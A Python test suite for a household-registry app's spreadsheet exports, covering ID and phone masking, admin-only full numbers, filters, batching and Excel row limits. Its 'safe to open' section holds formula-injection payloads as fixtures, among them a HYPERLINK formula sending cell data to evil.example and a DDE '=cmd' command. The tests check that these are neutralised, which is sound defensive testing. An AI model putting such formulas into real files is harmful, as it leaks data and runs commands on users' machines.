"""Exporting the filtered list: the import template's columns, masked unless an admin asks."""

import csv
import io
import re
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook
from python_calamine import CalamineWorkbook
from sqlalchemy import event
from sqlmodel import col, delete, select

from app.core import clock
from app.domain.identifiers import mask_id_number
from app.models import AuditEvent, Household, Person, RegionLevel
from app.routes import files
from app.services import exports
from app.services.households import HouseholdFilters
from tests.factories import household, id_number, person, region, region_named, user_named
from tests.sheets import HEADER, as_csv, person_row

WANG = id_number("530402", "19800101", 123)


@pytest.fixture
def homes(db):
    home = household(db, "瓦窑村", address="瓦窑村12号", household_key="0012")
    person(
        db,
        home,
        name="王大海",
        id_number=WANG,
        phone="13812345678",
        relation="head",
        key_groups=["4"],
        insurance_status="resident",
        resident_tier="200",
    )
    person(
        db,
        home,
        name="李秀英",
        id_number=id_number(born="19500505", order=222),
        insurance_status="receiving",
    )


def csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_the_csv_export_has_the_template_columns_and_masks_numbers(as_user, homes):
    response = as_user("lee").get("/households/export.csv")
    assert response.headers["content-type"].startswith("text/csv")
    header, *rows = csv_rows(response)
    assert header[:3] == ["姓名", "身份证号", "联系电话"]
    wang = dict(zip(header, next(r for r in rows if r[0] == "王大海"), strict=True))
    assert wang["身份证号"] == f"530402********{WANG[-4:]}"
    assert wang["联系电话"] == "138****5678"
    assert (wang["乡镇"], wang["村/社区"], wang["户号"]) == ("北城街道", "瓦窑村", "0012")
    assert (wang["与户主关系"], wang["参保状态"], wang["重点群体"]) == (
        "户主",
        "城乡居民养老保险",
        "4",
    )
    assert WANG not in response.text


def test_the_export_honours_the_filters(as_user, homes):
    _header, *rows = csv_rows(as_user("lee").get("/households/export.csv?status=receiving"))
    assert [r[0] for r in rows] == ["王大海", "李秀英"], "households match when anyone matches"
    _header, *rows = csv_rows(as_user("lee").get("/households/export.csv?q=nobody"))
    assert rows == []


def test_an_admin_may_export_full_numbers_and_it_is_recorded(as_user, db, homes):
    response = as_user("alice").get("/households/export.xlsx?full=1")
    sheet = CalamineWorkbook.from_filelike(io.BytesIO(response.content)).get_sheet_by_index(0)
    assert WANG in [row[1] for row in sheet.to_python()]
    event = db.exec(select(AuditEvent).where(AuditEvent.action == "export")).one()
    assert event.detail["full_numbers"] is True


def test_a_lead_asking_for_full_numbers_still_gets_them_masked(as_user, homes):
    assert WANG not in as_user("lee").get("/households/export.csv?full=1").text


def test_an_export_can_be_imported_again_without_changes(as_user, db, homes):
    from tests.test_imports import upload

    client = as_user("alice")
    exported = client.get("/households/export.xlsx?full=1").content
    upload(client, exported, filename="回导.xlsx", dry_run=False)
    assert len(db.exec(select(Person)).all()) == 2


def test_members_cannot_export(as_user):
    assert as_user("mei").get("/households/export.csv").status_code == 403


# --- a varied registry, read in batches ------------------------------------------------------


@pytest.fixture
def registry(db):
    """Three villages of one township (created in this order, so 瓦窑村 sorts first) with
    households and people registered out of order, some in key groups or with subsidies."""
    township = region_named(db, "北城街道")
    region(db, "东村", RegionLevel.village, township)
    region(db, "西村", RegionLevel.village, township)
    west_1 = household(db, "西村", household_key="W1")
    wayao_1 = household(db, "瓦窑村", household_key="Y1")
    east_1 = household(db, "东村", household_key="E1")
    wayao_2 = household(db, "瓦窑村", household_key="Y2")
    west_2 = household(db, "西村", household_key="W2")
    people = [
        (wayao_2, "周一", {"key_groups": ["4", "1"]}),
        (west_1, "吴二", {"subsidy_categories": ["severe_disability", "low_income"]}),
        (wayao_1, "郑三", {"phone": "13912345678"}),
        (east_1, "王四", {"key_groups": ["2"], "subsidy_categories": ["extreme_poverty"]}),
        (wayao_2, "冯五", {}),
        (west_2, "陈六", {"key_groups": ["8"]}),
        (wayao_1, "褚七", {}),
        (west_1, "卫八", {}),
    ]
    for order, (home, name, fields) in enumerate(people, start=11):
        person(db, home, name=name, id_number=id_number(order=order), **fields)


# By village, then household (as registered), then person (as added).
IN_ORDER = [
    ("郑三", "瓦窑村", "Y1", "", ""),
    ("褚七", "瓦窑村", "Y1", "", ""),
    ("周一", "瓦窑村", "Y2", "1、4", ""),
    ("冯五", "瓦窑村", "Y2", "", ""),
    ("王四", "东村", "E1", "2", "特困"),
    ("吴二", "西村", "W1", "", "低保、重度残疾"),
    ("卫八", "西村", "W1", "", ""),
    ("陈六", "西村", "W2", "8", ""),
]


def exported(client, path: str) -> list[dict[str, str]]:
    header, *rows = csv_rows(client.get(path))
    return [dict(zip(header, row, strict=True)) for row in rows]


def summary(rows: list[dict[str, str]]) -> list[tuple[str, ...]]:
    return [(r["姓名"], r["村/社区"], r["户号"], r["重点群体"], r["困难类别"]) for r in rows]


@pytest.mark.parametrize("chunk", [1, 2, 3, 1000])
def test_people_come_by_village_household_and_person_whatever_the_batch_size(
    as_user, registry, monkeypatch, chunk
):
    monkeypatch.setattr(exports, "CHUNK", chunk)
    assert summary(exported(as_user("lee"), "/households/export.csv")) == IN_ORDER


def test_full_numbers_for_an_admin_who_asks_masked_otherwise(as_user, registry):
    client = as_user("alice")
    full = exported(client, "/households/export.csv?full=1")
    masked = exported(client, "/households/export.csv")
    numbers = {r["姓名"]: r["身份证号"] for r in full}
    assert numbers["郑三"] == id_number(order=13)
    assert [r["身份证号"] for r in masked] == [mask_id_number(n) for n in numbers.values()]
    assert {r["姓名"]: r["联系电话"] for r in full}["郑三"] == "13912345678"
    assert {r["姓名"]: r["联系电话"] for r in masked}["郑三"] == "139****5678"


def test_filters_keep_the_order_of_what_they_keep(as_user, registry, monkeypatch):
    monkeypatch.setattr(exports, "CHUNK", 1)
    rows = exported(as_user("lee"), "/households/export.csv?key_group=8")
    assert summary(rows) == [row for row in IN_ORDER if row[2] == "W2"]
    rows = exported(as_user("lee"), "/households/export.csv?subsidy=low_income")
    assert summary(rows) == [row for row in IN_ORDER if row[2] == "W1"]


def statements_exporting(db, username: str) -> list[str]:
    """The SQL of every statement one export runs."""
    statements: list[str] = []

    def seen(_connection, _cursor, statement, *_rest) -> None:
        statements.append(statement)

    engine = db.get_bind()
    event.listen(engine, "before_cursor_execute", seen)
    try:
        user = user_named(db, username)
        list(exports.rows(db, user, HouseholdFilters(), date(2025, 6, 1), full=False))
    finally:
        event.remove(engine, "before_cursor_execute", seen)
    return statements


def test_each_batch_of_households_costs_the_same_few_statements(db, monkeypatch):
    """Paging the people with OFFSET re-sorted and skipped the whole list for every page (hours
    for a city's 2.3 million people); now a batch reads its households' people, key groups and
    subsidies in the same three statements, however many people they have."""
    monkeypatch.setattr(exports, "CHUNK", 2)
    orders = iter(range(100, 200))
    counts = []
    for batch in range(3):
        for size in (1, batch + 2):
            home = household(db, household_key=f"{batch}-{size}")
            for _ in range(size):
                order = next(orders)
                person(
                    db, home, name=f"人{order}", id_number=id_number(order=order), key_groups=["1"]
                )
        statements = statements_exporting(db, "lee")
        assert not [s for s in statements if "OFFSET" in s.upper()]
        counts.append(len(statements))
    assert counts[1] - counts[0] == counts[2] - counts[1] <= 3


# --- the size of a sheet -----------------------------------------------------------------------


def test_an_export_too_long_for_an_excel_sheet_is_refused_before_it_starts(
    as_user, db, homes, monkeypatch
):
    """An .xlsx sheet holds 1 048 576 rows. A longer list is neither cut short nor split over
    sheets (the importer reads the first sheet only): the list comes back with its filters and
    a word to narrow it or take CSV, and nothing is exported."""
    monkeypatch.setattr(exports, "XLSX_MAX_ROWS", 2)
    client = as_user("lee")
    response = client.get("/households/export.xlsx?status=resident&full=1", follow_redirects=False)
    assert response.status_code == 303
    assert response.headers["location"] == "/households?status=resident&export=too_long_for_xlsx"
    page = client.get(response.headers["location"]).text
    (alert,) = re.findall(r'<div class="alert error" role="alert">([^<]*)</div>', page)
    assert "Excel" in alert and "CSV" in alert
    assert "too_long_for_xlsx" not in page, "the export and page links drop the word"
    assert 'class="alert' not in client.get("/households?status=resident").text
    assert db.exec(select(AuditEvent).where(AuditEvent.action == "export")).all() == []
    assert len(csv_rows(client.get("/households/export.csv?status=resident"))) == 3


def test_an_export_that_just_fits_an_excel_sheet_is_whole(as_user, homes, monkeypatch):
    monkeypatch.setattr(exports, "XLSX_MAX_ROWS", 3)
    response = as_user("lee").get("/households/export.xlsx", follow_redirects=False)
    assert response.status_code == 200
    sheet = CalamineWorkbook.from_filelike(io.BytesIO(response.content)).get_sheet_by_index(0)
    assert [row[0] for row in sheet.to_python()] == ["姓名", "王大海", "李秀英"]


# --- sent from a file ----------------------------------------------------------------------------


def test_a_large_export_is_written_to_disk_and_sent_whole_in_pieces(
    db, as_user, registry, monkeypatch
):
    client = as_user("lee")
    in_memory = client.get("/households/export.csv")
    monkeypatch.setattr(exports, "SPOOL_BYTES", 100)
    monkeypatch.setattr(files, "PIECE", 100)
    on_disk = client.get("/households/export.csv", headers={"Accept-Encoding": "identity"})
    assert on_disk.content == in_memory.content
    assert on_disk.content.startswith("\ufeff姓名".encode())
    assert on_disk.headers["content-length"] == str(len(on_disk.content))
    township = region_named(db, "北城街道")
    plain = f"attachment; filename=households-unit{township.id}-{clock.today()}.csv; filename*="
    assert on_disk.headers["content-disposition"].startswith(plain)


# --- safe to open ------------------------------------------------------------------------------

# Texts Excel or WPS would run as a formula or a command, as a hostile list may bring them.
HOSTILE = {
    "住址": '=HYPERLINK("http://evil.example/?x="&B2,"查看")',
    "村民小组": "=cmd|'/c calc'!A1",
    "网格": "+1",
    "户号": "-2+3",
    "姓名": "@SUM(1)",
}
# Forms and imports trim a tab, but a stored text may begin with one.
TABBED = "\t=1+1"


@pytest.fixture
def hostile(db):
    home = household(
        db,
        address=HOSTILE["住址"],
        village_group=HOSTILE["村民小组"],
        grid=HOSTILE["网格"],
        household_key=HOSTILE["户号"],
    )
    made = person(
        db,
        home,
        name=HOSTILE["姓名"],
        id_number=WANG,
        insurance_status="resident",
        resident_tier="200",
        years_paid="15",
    )
    made.occupation = TABBED
    db.add(made)
    db.commit()


def test_a_csv_export_puts_a_quote_before_every_text_that_could_run(as_user, hostile):
    [wang] = exported(as_user("lee"), "/households/export.csv")
    for column, text in {**HOSTILE, "从业情况": TABBED}.items():
        assert wang[column] == "'" + text, column
    assert (wang["缴费档次"], wang["缴费年限"]) == ("200", "15")


def test_an_xlsx_export_holds_those_texts_as_text_never_as_formulas(as_user, hostile):
    content = as_user("lee").get("/households/export.xlsx").content
    header, wang = load_workbook(io.BytesIO(content)).active.iter_rows()
    cells = {title.value: cell for title, cell in zip(header, wang, strict=True)}
    for column, text in {**HOSTILE, "从业情况": TABBED}.items():
        cell = cells[column]
        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True), column
    assert [cell.coordinate for cell in wang if cell.data_type == "f"] == []
    assert (cells["缴费档次"].value, cells["姓名"].value) == ("200", "@SUM(1)")


def registered(db) -> list[tuple]:
    query = select(
        Person.name,
        Person.occupation,
        Household.address,
        Household.household_key,
        Household.village_group,
        Household.grid,
    ).join(Household, col(Household.id) == Person.household_id)
    return sorted(db.exec(query).all())


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_an_exported_list_imports_back_unchanged(as_user, db, suffix):
    """A department's list with texts that could run is imported, exported, the registry
    emptied and the export imported: the CSV's quotes come off again, the .xlsx's text cells
    read as they were."""
    from tests.test_imports import upload

    header = [*HEADER, "村民小组", "网格", "从业情况"]
    cells = {"address": HOSTILE["住址"], "key": HOSTILE["户号"], "groups": "", "subsidy": ""}
    listed = person_row(name=HOSTILE["姓名"], number=WANG, **cells)
    hostile = [*listed, HOSTILE["村民小组"], HOSTILE["网格"], "@打零工"]
    client = as_user("alice")
    upload(client, as_csv([hostile], header=header), dry_run=False)
    before = registered(db)
    assert before == [
        ("@SUM(1)", "@打零工", *(HOSTILE[c] for c in ("住址", "户号", "村民小组", "网格")))
    ]
    content = client.get(f"/households/export.{suffix}?full=1").content
    for table in (Person, Household):
        db.exec(delete(table))
    db.commit()
    upload(client, content, filename=f"回导.{suffix}", dry_run=False)
    assert registered(db) == before


def test_numbers_stay_numbers_negative_ones_too():
    header, row = ["文字", "整数", "小数"], ["-2+3", -5, Decimal("-1.5")]
    written = exports.as_csv(header, iter([row])).decode("utf-8-sig")
    assert written.splitlines()[1] == "'-2+3,-5,-1.5"
    sheet = load_workbook(io.BytesIO(exports.as_xlsx(header, iter([row])))).active
    _header, cells = sheet.iter_rows()
    assert [(c.value, c.data_type) for c in cells] == [("-2+3", "s"), (-5, "n"), (-1.5, "n")]
